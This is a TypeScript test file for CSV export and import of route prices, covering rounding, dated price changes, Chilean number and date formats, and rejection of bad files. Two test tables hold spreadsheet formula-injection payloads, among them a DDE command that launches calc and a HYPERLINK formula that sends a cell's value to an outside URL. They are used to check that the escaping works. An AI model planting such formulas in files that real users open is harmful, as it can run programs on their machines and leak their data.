import fc from 'fast-check';
import { expect, test } from 'vitest';
import type { Content, Route } from '../../../../shared/content/content.ts';
import { priceOn } from '../../../../shared/content/prices.ts';
import { findProblems } from '../../../../shared/content/problems.ts';
import { readFirstRelease } from '../../../../shared/testing/content.ts';
import { writeCsv } from '../../../util/csv.ts';
import { readLines } from '../../parts/files/importFile.ts';
import { readRecords, readTable } from '../../../util/reading/table.ts';
import { allPrices, planPrices, priceCells, priceFile, withPrices } from './planPrices.ts';
import { movedTo, planChange, priceState, raise, raiseAll } from './priceTable.ts';

/** As the button exports it. */
const writePrices = (routes: readonly Route[]) => {
  const lines = allPrices(routes).map((row) => Object.values(priceCells).map((text) => text(row)));
  return writeCsv([Object.keys(priceCells), ...lines]);
};

const content = readFirstRelease();
const [centro] = content.routes as [Route];
const today = '2026-11-22';
const routeWith = (prices: Route['prices']): Route => ({ ...centro, prices });
const planned = routeWith([
  { pesos: 15_000, night: 18_000 },
  { pesos: 20_000, validFrom: '2027-01-01', validUntil: '2027-01-31' },
]);

/** The document after a file, or the problems of the file. */
function readPrices(text: string, before: Content) {
  const read = readLines(text, priceFile);
  const plan = 'problems' in read ? read : planPrices(read.lines, before);
  if ('problems' in plan) return { kind: 'refused', problems: plan.problems } as const;
  const { planned } = plan;
  return {
    kind: 'read',
    content: withPrices(
      before,
      planned.map(({ sent }) => sent),
    ),
    planned,
  } as const;
}

test('a percentage is rounded to whole steps, within what a price may be', () => {
  expect(raise(22_000, { percent: 5, rounding: 500, from: null })).toBe(23_000);
  expect(raise(15_000, { percent: -10, rounding: 500, from: null })).toBe(13_500);
  expect(raise(9_999_999, { percent: 500, rounding: 1, from: null })).toBe(10_000_000);
});

test('all prices are raised at once, those planned and of the night too, but not what is over', () => {
  const expired = routeWith([{ pesos: 10_000, validUntil: '2026-01-01' }]);
  const [raised, over] = raiseAll([planned, expired], { percent: 10, rounding: 500, from: null }, today);
  expect(raised!.prices).toEqual([
    { pesos: 16_500, night: 20_000 },
    { pesos: 22_000, validFrom: '2027-01-01', validUntil: '2027-01-31' },
  ]);
  expect(over).toEqual(expired);
});

test('from a day on, the price until then stays', () => {
  const [raised] = raiseAll([planned], { percent: 10, rounding: 500, from: '2026-12-01' }, today);
  expect(['2026-11-30', '2026-12-01', '2027-01-15'].map((day) => priceOn(raised!, day))).toEqual([
    15_000, 16_500, 22_000,
  ]);
  expect(findProblems({ ...content, routes: [raised] })).toEqual([]);
});

test('a planned change begins after the last price, with its figures', () => {
  expect(planChange(planned, today).prices.at(-1)).toEqual({ pesos: 20_000, validFrom: '2027-01-02' });
  expect(planChange(centro, today).prices).toEqual([
    { pesos: 15_000 },
    { pesos: 15_000, validFrom: '2026-11-23' },
  ]);
  expect(planned.prices.map((price) => priceState(planned, price, today))).toEqual(['current', 'planned']);
  expect(planned.prices.map((price) => priceState(planned, price, '2027-03-01'))).toEqual(['over', 'over']);
});

test('a file is read as it was written, whatever is in its fields', () => {
  const field = fc.oneof(
    fc.constantFrom('a;b', '"', 'a "b"', 'x\r\ny', 'ñ', '', '=cmd', "'=cmd", "a;'-1", '\t@x', "''\n+1"),
    fc.string({ unit: 'grapheme' }),
  );
  fc.assert(
    fc.property(fc.array(fc.array(field, { minLength: 2, maxLength: 4 }), { maxLength: 5 }), (records) => {
      const filled = [['a', 'b', 'c', 'd', 'e'], ...records.map((fields) => ['x', ...fields])];
      expect(readTable(writeCsv(filled)).map(({ fields }) => fields)).toEqual(filled);
    }),
  );
});

test.each([
  ['=1+1', "'=1+1"],
  ['+1', "'+1"],
  ['-2', "'-2"],
  ['@x', "'@x"],
  ['\t=1', `"'\t'=1"`],
  ['\r=1', `"'\r'=1"`],
  ['\n=1', `"'\n'=1"`],
  ['＝1+1', "'＝1+1"],
  ['a,=1+1', `"a,'=1+1"`],
  ['a;=1+1', `"a;'=1+1"`],
  ['a\n@x', `"a\n'@x"`],
  ['"=1', '"""=1"'],
  ['Santiago - Lampa', 'Santiago - Lampa'],
])('the field %j is no formula for a spreadsheet', (field, written) => {
  expect(writeCsv([[field, 'end']])).toBe(`\uFEFF${written};end\r\n`);
});

test.each([
  '=HYPERLINK("https://example.com/"&A1)',
  '+56 9 1234 5678',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '＝1+1',
  'Centro;=1+1',
  'Centro\t=1+1',
])('the file of prices has no formula where a route is called %j, and is read all the same', (es) => {
  const routes = content.routes.map((route) => ({ ...route, name: { es } }));
  const file = writePrices(routes);
  for (const { fields } of [...readRecords(file.slice(1), ';'), ...readRecords(file.slice(1), ',')])
    for (const field of fields) expect(field).not.toMatch(/^"?[=+\-@＝＋－＠\t\r\n]/);
  expect(readPrices(file, { ...content, routes })).toMatchObject({
    kind: 'read',
    content: { ...content, routes },
  });
});

test('prices go into a file that Excel in Chile opens, and come back the same', () => {
  const given: Content = { ...content, routes: [planned, ...content.routes.slice(1)] };
  const file = writePrices(given.routes);
  expect(file.split('\r\n').slice(0, 3)).toEqual([
    '\uFEFFid;destino;desde;hasta;precio;noche',
    'centro;Centro;;;15000;18000',
    'centro;Centro;01-01-2027;31-01-2027;20000;',
  ]);
  expect(readPrices(file, given)).toMatchObject({ kind: 'read', content: given });
});

test('days and figures are read as Excel saves them; routes that are not named keep their prices', () => {
  const file =
    'id;destino;desde;hasta;precio;noche\ncentro;x;;;"16.000,00";$ 19.000\n\ncentro;x;1/12/2026;;17000;\n';
  const read = readPrices(file, content);
  expect(read.kind === 'read' && read.content.routes[0]!.prices).toEqual([
    { pesos: 16_000, night: 19_000 },
    { pesos: 17_000, validFrom: '2026-12-01' },
  ]);
  expect(read.kind === 'read' && read.content.routes[1]).toBe(content.routes[1]);
});

test.each(['15,000', '$22,000', '1,0000'])(
  '%s, which other countries write for thousands, is refused',
  (price) => {
    const read = readPrices(`id;destino;desde;hasta;precio;noche\ncentro;;;;"${price}";\n`, content);
    expect(read).toMatchObject({ kind: 'refused', problems: [{ line: 2, code: 'not_a_number' }] });
  },
);

test.each([
  ['id,destino,desde,hasta,precio,noche\ncentro,"Centro, plaza",,,16000,'],
  ['sep=,\nid,destino,desde,hasta,precio,noche\ncentro,x,,,"16.000,00",'],
  ['precio\tid\tdesde\thasta\n16.000\tcentro\t\t'],
])('C1 C3 C8 the prices %j are read', (file) => {
  const read = readPrices(file, content);
  expect(read.kind === 'read' && read.content.routes[0]!.prices).toEqual([{ pesos: 16_000 }]);
});

test('a file with a fault is refused as a whole, with the lines', () => {
  const refused = (lines: string) => {
    const read = readPrices(`id;destino;desde;hasta;precio;noche\n${lines}`, content);
    return read.kind === 'refused' ? read.problems : [];
  };
  expect(refused('centro;;;;1;\nmarte;;;;1;\ncentro;;;;mil;\ncentro;;pronto;;1;\ncentro;1')).toEqual([
    { line: 3, column: 'id', code: 'unknown_route' },
    { line: 4, column: 'price', code: 'not_a_number' },
    { line: 5, column: 'from', code: 'not_a_day' },
    { line: 6, column: 'price', code: 'not_a_number' },
  ]);
  expect(refused('centro;;;;1;\nvitacura;;;;10000001;\ncentro;;;;2;')).toEqual([
    { line: 4, code: 'out_of_order' },
    { line: 3, code: 'too_large', limit: 10_000_000 },
  ]);
  expect(refused('')).toEqual([{ line: 2, code: 'nothing' }]);
  expect(readPrices('precio;id\n1;centro', content)).toEqual({
    kind: 'refused',
    problems: [{ line: 1, code: 'columns' }],
  });
});

test('a price with an hour goes into the file and comes back, and hours are read as Excel saves them', () => {
  const noon = routeWith([
    { pesos: 15_000 },
    { pesos: 16_000, validFrom: '2027-01-01T08:05', validUntil: '2027-01-31T00:00' },
  ]);
  const given: Content = { ...content, routes: [noon, ...content.routes.slice(1)] };
  const file = writePrices(given.routes);
  expect(file).toContain('centro;Centro;01-01-2027 08:05;31-01-2027 00:00;16000;');
  expect(readPrices(file, given)).toMatchObject({ kind: 'read', content: given });
  const read = (from: string) => {
    const result = readPrices(`id;destino;desde;hasta;precio;noche\ncentro;x;${from};;1000;`, content);
    return result.kind === 'read' ? result.content.routes[0]!.prices[0]!.validFrom : result.problems;
  };
  expect(read('1/1/2027 8:05')).toBe('2027-01-01T08:05');
  expect(read('2027-01-01T08:05:00')).toBe('2027-01-01T08:05');
  expect(read('01-01-2027 00:00')).toBe('2027-01-01');
  expect(read('08:05')).toEqual([{ line: 2, column: 'from', code: 'not_a_day' }]);
  expect(read('01-01-2027 mediodía')).toEqual([{ line: 2, column: 'from', code: 'not_a_day' }]);
});

test('a beginning keeps its hour when its day moves, and an hour of midnight is the day alone', () => {
  expect(movedTo('2027-01-01', { time: '08:00' })).toBe('2027-01-01T08:00');
  expect(movedTo('2027-01-01T08:00', { day: '2027-01-02' })).toBe('2027-01-02T08:00');
  expect(movedTo('2027-01-01T08:00', { time: '00:00' })).toBe('2027-01-01');
  expect(movedTo('2027-01-01T08:00', { time: '' })).toBe('2027-01-01');
  expect(movedTo('2027-01-01T08:00', { day: '' })).toBeUndefined();
});

test('a change is planned for the day after a price that begins at an hour, and is planned until its minute', () => {
  const noon = routeWith([{ pesos: 15_000 }, { pesos: 16_000, validFrom: '2027-01-01T12:00' }]);
  expect(planChange(noon, '2026-11-22T10:00').prices.at(-1)?.validFrom).toBe('2027-01-02');
  const stateAt = (now: string) => noon.prices.map((price) => priceState(noon, price, now));
  expect(stateAt('2027-01-01T11:59')).toEqual(['current', 'planned']);
  expect(stateAt('2027-01-01T12:00')).toEqual(['over', 'current']);
});

test('each line says what it does to the price that begins with it, and a price that the file lacks goes', () => {
  const given: Content = { ...content, routes: [planned, ...content.routes.slice(1)] };
  const read = (text: string) => {
    const result = readPrices(text, given);
    return result.kind === 'read' ? result.planned : result.problems;
  };
  expect(read('id;desde;hasta;precio\ncentro;;;16000\ncentro;01-02-2027;;21000')).toMatchObject([
    { line: 2, kind: 'changed', changes: [{ column: 'price', before: '$15.000', after: '$16.000' }] },
    { line: 3, name: 'Centro · 01-02-2027', kind: 'new', changes: [{ column: 'price', after: '$21.000' }] },
    { line: null, name: 'Centro · 01-01-2027', kind: 'removed' },
  ]);
  // An empty cell deletes the price of the night; without its column it stays.
  expect(read('id;desde;hasta;precio;noche\ncentro;;;15000;')).toMatchObject([
    { kind: 'changed', changes: [{ column: 'night', before: '$18.000', after: '' }] },
    { kind: 'removed' },
  ]);
});
